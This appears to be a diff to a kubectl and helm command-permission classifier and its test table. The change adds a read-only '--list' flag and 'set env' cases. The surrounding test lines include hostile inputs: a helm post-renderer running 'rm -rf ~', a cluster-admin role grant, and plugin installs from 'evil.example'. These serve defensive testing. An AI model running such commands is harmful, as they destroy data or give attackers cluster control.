@@ -74,7 +74,12 @@ KUBECTL = command(
         ),
         loose(
             "apply create replace patch edit set label annotate scale autoscale expose taint cordon uncordon run certificate",
-            [DRY, option("-f --filename -k --kustomize", "OPENS"), flag("--force --prune", DESTROY)],
+            [
+                DRY,
+                option("-f --filename -k --kustomize", "OPENS"),
+                flag("--force --prune", DESTROY),
+                flag("--list", dry=True),
+            ],
             does=CHANGE,
         ),
         loose("delete", [DRY, option("-f --filename -k --kustomize", "OPENS")], does=DESTROY),
@@ -345,6 +350,8 @@ ask    kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=ev
 llm    kubectl krew install evil
 deny   helm template x ./chart --post-renderer 'rm -rf ~'
 ask    helm plugin install https://evil.example/x
+allow  kubectl set env deployment/web --list
+ask    kubectl set env deployment/web A=b
 allow  helm diff upgrade web ./chart
 allow  argocd app list
 ask    argocd app delete web
